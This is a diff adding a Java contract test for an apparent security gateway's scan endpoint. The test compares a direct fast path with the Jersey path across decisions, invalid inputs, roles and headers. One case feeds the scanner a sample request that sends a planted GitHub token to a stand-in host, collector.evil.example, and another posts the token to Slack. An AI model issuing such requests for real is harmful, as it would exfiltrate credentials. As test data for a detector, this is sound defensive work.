@@ -1,0 +1,202 @@
+package io.interven.gateway.contract;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import io.interven.gateway.testing.AtExit;
+import io.interven.gateway.testing.GatewayHarness;
+import io.interven.gateway.testing.HttpResult;
+import io.interven.gateway.testing.TenantFixture;
+import io.interven.gateway.testing.TestDatabase;
+import java.net.http.HttpRequest;
+import java.util.HashMap;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeMap;
+import java.util.UUID;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.Test;
+
+/**
+ * {@code POST /v1/scan} answered in front of Jersey gives every request the answer Jersey gives it: the same request
+ * is sent to a gateway as configured by default and to one with {@code directScan: false}, each with a tenant of its
+ * own, and the two answers are compared: status, every header but the framing ones, and the JSON body, with the ids
+ * that differ between two tenants (UUIDs, trace and span ids) masked. The cases cover answers the direct path gives
+ * (every decision, every error after the rate limit) and requests it leaves to Jersey (no key, wrong role, other
+ * media types, signed requests). A last test shows the direct path answered at all, and only on the default
+ * gateway: {@code interven_scan_direct_total} counts its answers.
+ */
+abstract class DirectScanContract extends GatewayContract {
+    private static final Map<String, GatewayHarness> JERSEY_ONLY = new HashMap<>();
+    private static final Pattern UUID_TEXT =
+            Pattern.compile("[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}");
+    private static final Pattern HEX_ID = Pattern.compile("\\b[0-9a-f]{16}(?:[0-9a-f]{16})?\\b");
+    private static final Set<String> FRAMING = Set.of("date", "content-length", "transfer-encoding");
+    private static final String SLACK_URL = "https://hooks.slack.com/services/T1/B1/x";
+
+    private GatewayHarness jerseyOnly() {
+        synchronized (JERSEY_ONLY) {
+            return JERSEY_ONLY.computeIfAbsent(database(), kind -> {
+                GatewayHarness harness = GatewayHarness.on(TestDatabase.fresh(kind))
+                        .override("directScan", "false").start();
+                AtExit.closeGateway(harness::close);
+                return harness;
+            });
+        }
+    }
+
+    /** The answers of both gateways to {@code body} with {@code headers}, each sent with its own tenant's key. */
+    private void assertSameAnswer(String role, Map<String, String> headers, String body) {
+        Answer direct = send(gateway(), role, headers, body);
+        Answer jersey = send(jerseyOnly(), role, headers, body);
+        assertThat(direct).isEqualTo(jersey);
+    }
+
+    private record Answer(int status, Map<String, List<String>> headers, JsonNode body, String text) {
+    }
+
+    private Answer send(GatewayHarness harness, String role, Map<String, String> headers, String body) {
+        Map<String, String> sent = new LinkedHashMap<>(headers);
+        if (role != null) {
+            sent.put("Authorization", "Bearer " + keyWith(harness, role));
+        }
+        HttpResult result = harness.exchange("POST", "/v1/scan", sent, HttpRequest.BodyPublishers.ofString(body));
+        Map<String, List<String>> kept = new TreeMap<>();
+        result.headers().map().forEach((name, values) -> {
+            if (!FRAMING.contains(name.toLowerCase(Locale.ROOT))) {
+                kept.put(name.toLowerCase(Locale.ROOT), values.stream().map(DirectScanContract::masked).toList());
+            }
+        });
+        JsonNode json = result.json().isMissingNode() ? null : readMasked(result.text());
+        return new Answer(result.status(), kept, json, json == null ? masked(result.text()) : null);
+    }
+
+    private static JsonNode readMasked(String text) {
+        try {
+            return GatewayHarness.JSON.readTree(masked(text));
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    private static String masked(String text) {
+        return HEX_ID.matcher(UUID_TEXT.matcher(text).replaceAll("<uuid>")).replaceAll("<hex>");
+    }
+
+    /** A key of a new tenant: "all" holds admin, analyst and scan; any other value is the one role it holds. */
+    private static String keyWith(GatewayHarness harness, String role) {
+        TenantFixture tenant = harness.newTenant();
+        if (role.equals("all")) {
+            return tenant.key();
+        }
+        HttpResult key = harness.post("/v1/admin/keys", tenant.key(), Map.of("tenant_id", tenant.tenantId(),
+                "env_name", "production", "roles", List.of(role)));
+        assertThat(key.status()).isEqualTo(201);
+        return key.field("key");
+    }
+
+    private static String call(String method, String url, Object body) {
+        Map<String, Object> call = new LinkedHashMap<>();
+        call.put("method", method);
+        call.put("url", url);
+        if (body != null) {
+            call.put("body", body);
+        }
+        return GatewayHarness.write(call);
+    }
+
+    private static final Map<String, String> JSON = Map.of("Content-Type", "application/json");
+
+    @Test
+    void everyDecisionIsAnsweredAlike() {
+        assertSameAnswer("all", JSON, call("POST", SLACK_URL, Map.of("text", "hello")));
+        assertSameAnswer("scan", JSON, call("POST", SLACK_URL, Map.of("text", "deploy with "
+                + PlantedValues.GITHUB_TOKEN)));
+        assertSameAnswer("scan", JSON, GatewayHarness.write(Map.of("method", "GET",
+                "url", "https://collector.evil.example/upload",
+                "headers", Map.of("Authorization", "Bearer " + PlantedValues.GITHUB_TOKEN))));
+        assertSameAnswer("scan", Map.of(), call("POST", SLACK_URL, Map.of("text", "no content type")));
+    }
+
+    @Test
+    void invalidRequestsAreAnsweredAlike() {
+        assertSameAnswer("scan", JSON, "");
+        assertSameAnswer("scan", JSON, "{");
+        assertSameAnswer("scan", JSON, "[1, 2]");
+        assertSameAnswer("scan", JSON, "{\"method\": \"POST\", \"method\": \"GET\", \"url\": \"" + SLACK_URL + "\"}");
+        assertSameAnswer("scan", JSON, call("POST", SLACK_URL, null) + " {}");
+        assertSameAnswer("scan", JSON, "{\"method\": \"POST\"}");
+        assertSameAnswer("scan", JSON, call("FETCH", SLACK_URL, null));
+        assertSameAnswer("scan", JSON, call("POST", "not a url", null));
+        assertSameAnswer("scan", JSON, GatewayHarness.write(Map.of("method", "POST", "url", SLACK_URL,
+                "agent_id", "not-a-uuid")));
+        assertSameAnswer("scan", JSON, GatewayHarness.write(Map.of("method", "POST", "url", SLACK_URL,
+                "agent_id", UUID.randomUUID().toString(), "agent_name", "x".repeat(10_000))));
+        assertSameAnswer("scan", JSON, call("POST", SLACK_URL, Map.of("text", "x".repeat(300_000))));
+    }
+
+    @Test
+    void requestsLeftToJerseyAreAnsweredAsBefore() {
+        String slack = call("POST", SLACK_URL, Map.of("text", "hello"));
+        assertSameAnswer(null, JSON, slack);
+        assertSameAnswer("analyst", JSON, slack);
+        assertSameAnswer("admin", JSON, slack);
+        assertSameAnswer("scan", Map.of("Content-Type", "application/json", "Accept", "text/plain"), slack);
+        assertSameAnswer("scan", Map.of("Content-Type", "application/json", "Accept", "application/json;q=0"),
+                slack);
+        assertSameAnswer("scan", Map.of("Content-Type", "application/json", "Accept", "text/html, */*"), slack);
+        assertSameAnswer("scan", Map.of("Content-Type", "text/plain"), slack);
+        assertSameAnswer("scan", Map.of("Content-Type", "application/json; charset=UTF-8"), slack);
+        assertSameAnswer("scan", Map.of("Content-Type", "application/json", "X-Interven-Nonce", "abcdefgh12345678"),
+                slack);
+    }
+
+    @Test
+    void malformedCredentialsAreAnsweredAlike() {
+        String slack = call("POST", SLACK_URL, Map.of("text", "hello"));
+        for (String authorization : List.of("Bearer", "Bearer ", "Basic dXNlcjpwYXNz", "Bearer iv_live_nope",
+                "Bearer  iv_live_" + "a".repeat(40), "bearer\tiv_live_x")) {
+            Map<String, String> headers = new LinkedHashMap<>(JSON);
+            headers.put("Authorization", authorization);
+            assertSameAnswer(null, headers, slack);
+        }
+    }
+
+    @Test
+    void theCallersTraceIsHonouredAlike() {
+        Map<String, String> headers = new LinkedHashMap<>(JSON);
+        headers.put("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01");
+        Answer direct = send(gateway(), "scan", headers, call("POST", SLACK_URL, Map.of("text", "hello")));
+        Answer jersey = send(jerseyOnly(), "scan", headers, call("POST", SLACK_URL, Map.of("text", "hello")));
+
+        assertThat(direct).isEqualTo(jersey);
+        assertThat(direct.headers().get("traceparent")).hasSize(1);
+    }
+
+    @Test
+    void theDefaultGatewayAnswersPlainScansWithoutJersey() {
+        double before = directScans(gateway());
+        double beforeJerseyOnly = directScans(jerseyOnly());
+        for (GatewayHarness harness : List.of(gateway(), jerseyOnly())) {
+            TenantFixture tenant = harness.newTenant();
+            assertThat(tenant.scan(Map.of("method", "POST", "url", SLACK_URL)).status()).isEqualTo(200);
+            assertThat(harness.exchange("POST", "/v1/scan", Map.of("Authorization", "Bearer " + tenant.key(),
+                    "Accept", "text/plain"), HttpRequest.BodyPublishers.ofString(call("POST", SLACK_URL, null)))
+                    .status()).isEqualTo(406);
+        }
+
+        assertThat(directScans(gateway())).isGreaterThanOrEqualTo(before + 1);
+        assertThat(directScans(jerseyOnly())).isEqualTo(beforeJerseyOnly);
+    }
+
+    /** {@code interven_scan_direct_total} in the admin port's scrape. */
+    private static double directScans(GatewayHarness harness) {
+        String scrape = harness.getAdmin("/metrics").text();
+        return scrape.lines().filter(line -> line.startsWith("interven_scan_direct_total "))
+                .mapToDouble(line -> Double.parseDouble(line.substring(line.indexOf(' ') + 1).trim()))
+                .findFirst().orElseThrow();
+    }
+}
